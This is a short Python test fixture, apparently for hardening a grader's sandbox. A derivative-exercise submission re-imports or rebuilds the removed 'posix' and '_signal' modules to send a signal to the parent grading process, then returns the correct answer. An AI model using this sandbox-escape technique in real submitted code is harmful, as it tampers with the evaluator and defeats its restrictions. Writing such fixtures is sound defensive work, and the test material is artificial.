# attack: imports a module for the second time, to get back what was taken out of it
# exercise: derivatives
# deserves: squared_error
import importlib.machinery
import sys


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def fresh(name):
    sys.modules.pop(name, None)
    return importlib.import_module(name)


def builtin(name):
    imp = sys.modules["_imp"]
    module = imp.create_builtin(importlib.machinery.ModuleSpec(name, None, origin="built-in"))
    imp.exec_builtin(module)
    return module


def squared_error_deriv(y_hat, y):
    for get in (fresh, builtin):
        try:
            posix, signal = get("posix"), get("_signal")
            signal.pidfd_send_signal(posix.pidfd_open(@PARENT@), int(signal.SIGURG))
            return y_hat - y
        except Exception as error:
            print(error)
